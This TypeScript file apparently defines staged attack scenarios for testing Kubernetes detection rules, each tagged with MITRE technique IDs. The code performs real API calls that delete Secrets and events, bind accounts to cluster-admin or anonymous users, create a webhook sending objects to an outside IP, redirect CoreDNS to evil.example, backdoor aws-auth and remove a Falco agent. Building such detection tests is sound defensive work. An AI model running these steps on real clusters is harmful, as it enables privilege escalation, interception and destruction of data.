/** Rights, admission, traces, and destruction. */
import type { Manifest } from '../cluster/recording/objects.ts'
import { configMap } from '../cluster/recording/objects.ts'
import { expectStatus } from '../cluster/recording/stage.ts'
import { type Act, stage } from './act.ts'

const rbac = '/apis/rbac.authorization.k8s.io/v1'
const admission = '/apis/admissionregistration.k8s.io/v1'
const roleRef = (name: string) => ({ apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name })

/** A webhook of an admission control that nothing ever comes to. */
const webhook = (name: string, url: string) => ({
  name: `${name}.shop.example`,
  clientConfig: { url },
  rules: [{ apiGroups: ['stage.example'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['nothings'] }],
  failurePolicy: 'Ignore',
  sideEffects: 'None',
  admissionReviewVersions: ['v1'],
})

const heap: readonly Manifest[] = Array.from({ length: 24 }, (_, n) => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: `heap-${n}`, namespace: stage },
  stringData: { key: `not-a-key-${n}` },
}))

export const controlActs: readonly Act[] = [
  {
    id: 'destroyer',
    title: 'Twenty-four Secrets are deleted one after the other',
    mitre: 'T1485',
    matrix: 'MS-TA9038',
    who: 'a person',
    from: 'inside',
    rules: ['mass-deletion'],
    props: heap,
    act: async ({ client }) => {
      for (const { metadata } of heap)
        expectStatus(await client.delete(`/api/v1/namespaces/${stage}/secrets/${metadata.name}`), 200)
    },
  },
  {
    id: 'king-maker',
    title: 'A service account is bound to cluster-admin',
    mitre: 'T1098.006',
    matrix: 'MS-TA9019',
    who: 'a person',
    from: 'inside',
    rules: ['cluster-admin-binding'],
    act: async ({ client }) => {
      const subjects = [{ kind: 'ServiceAccount', name: 'default', namespace: stage }]
      const binding = { metadata: { name: 'stage-king' }, roleRef: roleRef('cluster-admin'), subjects }
      expectStatus(await client.post(`${rbac}/clusterrolebindings`, binding), 201)
    },
    leaves: [`${rbac}/clusterrolebindings/stage-king`],
  },
  {
    id: 'role-maker',
    title: 'A ClusterRole with every right, for a new service account in kube-system',
    mitre: 'T1098.006',
    matrix: 'MS-TA9019',
    stratus: 'k8s.persistence.create-admin-clusterrole',
    who: 'a person',
    from: 'inside',
    rules: ['wildcard-role', 'service-account-in-system-namespace'],
    act: async ({ client }) => {
      const rules = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]
      expectStatus(await client.post(`${rbac}/clusterroles`, { metadata: { name: 'stage-all' }, rules }), 201)
      const accounts = '/api/v1/namespaces/kube-system/serviceaccounts'
      expectStatus(await client.post(accounts, { metadata: { name: 'stage-all' } }), 201)
      const subjects = [{ kind: 'ServiceAccount', name: 'stage-all', namespace: 'kube-system' }]
      const binding = { metadata: { name: 'stage-all' }, roleRef: roleRef('stage-all'), subjects }
      expectStatus(await client.post(`${rbac}/clusterrolebindings`, binding), 201)
    },
    leaves: [
      `${rbac}/clusterroles/stage-all`,
      `${rbac}/clusterrolebindings/stage-all`,
      '/api/v1/namespaces/kube-system/serviceaccounts/stage-all',
    ],
  },
  {
    id: 'door-opener',
    title: 'Rights for everybody who has no credentials',
    mitre: 'T1098.006',
    matrix: 'MS-TA9005',
    who: 'a person',
    from: 'inside',
    rules: ['binding-for-everybody'],
    act: async ({ client }) => {
      const subjects = [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:unauthenticated' }]
      const binding = { metadata: { name: 'stage-everybody' }, roleRef: roleRef('view'), subjects }
      expectStatus(await client.post(`${rbac}/namespaces/${stage}/rolebindings`, binding), 201)
    },
    leaves: [`${rbac}/namespaces/${stage}/rolebindings/stage-everybody`],
  },
  {
    id: 'injector',
    title: 'A mutating webhook that sends objects out of the cluster',
    mitre: 'T1546',
    matrix: 'MS-TA9015',
    who: 'a person',
    from: 'inside',
    rules: ['webhook-to-url', 'webhook-created'],
    act: async ({ client }) => {
      const webhooks = [webhook('inject', 'https://203.0.113.9/mutate')]
      const made = await client.post(`${admission}/mutatingwebhookconfigurations`, {
        metadata: { name: 'inject' },
        webhooks,
      })
      expectStatus(made, 201)
    },
    leaves: [`${admission}/mutatingwebhookconfigurations/inject`],
  },
  {
    id: 'gate-remover',
    title: 'A validating webhook is deleted',
    mitre: 'T1562.001',
    matrix: 'MS-TA9015',
    who: 'a person',
    from: 'inside',
    rules: ['admission-control-removed'],
    props: [
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'ValidatingWebhookConfiguration',
        metadata: { name: 'gate' },
        webhooks: [webhook('gate', 'https://127.0.0.1:1/validate')],
      },
    ],
    act: async ({ client }) =>
      expectStatus(await client.delete(`${admission}/validatingwebhookconfigurations/gate`), 200),
  },
  {
    id: 'loosener',
    title: 'The Pod Security level of a namespace is lowered',
    mitre: 'T1562.001',
    matrix: 'MS-TA9018',
    who: 'a person',
    from: 'inside',
    rules: ['pod-security-loosened'],
    props: [
      {
        apiVersion: 'v1',
        kind: 'Namespace',
        metadata: { name: 'loosened', labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } },
      },
    ],
    act: async ({ client }) => {
      const labels = { 'pod-security.kubernetes.io/enforce': 'privileged' }
      expectStatus(await client.patch('/api/v1/namespaces/loosened', { metadata: { labels } }), 200)
    },
    leaves: ['/api/v1/namespaces/loosened'],
  },
  {
    id: 'wall-breaker',
    title: 'A NetworkPolicy is deleted',
    mitre: 'T1562.007',
    matrix: 'MS-TA9034',
    who: 'a person',
    from: 'inside',
    rules: ['network-policy-deleted'],
    props: [
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'NetworkPolicy',
        metadata: { name: 'default-deny', namespace: stage },
        spec: { podSelector: {}, policyTypes: ['Ingress', 'Egress'] },
      },
    ],
    act: async ({ client }) => {
      const policies = `/apis/networking.k8s.io/v1/namespaces/${stage}/networkpolicies`
      expectStatus(await client.delete(`${policies}/default-deny`), 200)
    },
  },
  {
    id: 'wiper',
    title: 'The events of a namespace are wiped',
    mitre: 'T1070',
    matrix: 'MS-TA9022',
    who: 'a person',
    from: 'inside',
    rules: ['events-wiped'],
    act: async ({ client }) => expectStatus(await client.delete(`/api/v1/namespaces/${stage}/events`), 200),
  },
  {
    id: 'poisoner',
    title: 'The configuration of CoreDNS is changed',
    mitre: 'T1557',
    matrix: 'MS-TA9035',
    who: 'a person',
    from: 'inside',
    rules: ['dns-changed', 'kube-system-changed'],
    props: [configMap('kube-system', 'coredns', { Corefile: '.:53 {\n  forward . /etc/resolv.conf\n}\n' })],
    act: async ({ client }) => {
      const data = { Corefile: '.:53 {\n  rewrite name api.shop.example evil.example\n  forward . 203.0.113.9\n}\n' }
      expectStatus(await client.patch('/api/v1/namespaces/kube-system/configmaps/coredns', { data }), 200)
    },
    leaves: ['/api/v1/namespaces/kube-system/configmaps/coredns'],
  },
  {
    id: 'cloud-mapper',
    title: 'Somebody is let in by the map of the cloud’s identities (aws-auth)',
    mitre: 'T1098',
    matrix: 'MS-TA9001',
    stratus: 'eks.persistence.backdoor-aws-auth-configmap',
    who: 'a person',
    from: 'inside',
    rules: ['cloud-access-map'],
    props: [configMap('kube-system', 'aws-auth', { mapRoles: '[]\n' })],
    act: async ({ client }) => {
      const data = { mapRoles: '- rolearn: arn:aws:iam::111122223333:role/x\n  groups: [system:masters]\n' }
      expectStatus(await client.patch('/api/v1/namespaces/kube-system/configmaps/aws-auth', { data }), 200)
    },
    leaves: ['/api/v1/namespaces/kube-system/configmaps/aws-auth'],
  },
  {
    id: 'agent-remover',
    title: 'A security agent is taken away',
    mitre: 'T1562.001',
    matrix: 'MS-TA9021',
    who: 'a person',
    from: 'inside',
    rules: ['security-agent-removed'],
    props: [
      {
        apiVersion: 'apps/v1',
        kind: 'DaemonSet',
        metadata: { name: 'falco', namespace: stage },
        spec: {
          selector: { matchLabels: { app: 'falco' } },
          template: {
            metadata: { labels: { app: 'falco' } },
            spec: { containers: [{ name: 'falco', image: 'falcosecurity/falco:0.42.0' }] },
          },
        },
      },
    ],
    act: async ({ client }) =>
      expectStatus(await client.delete(`/apis/apps/v1/namespaces/${stage}/daemonsets/falco`), 200),
  },
]
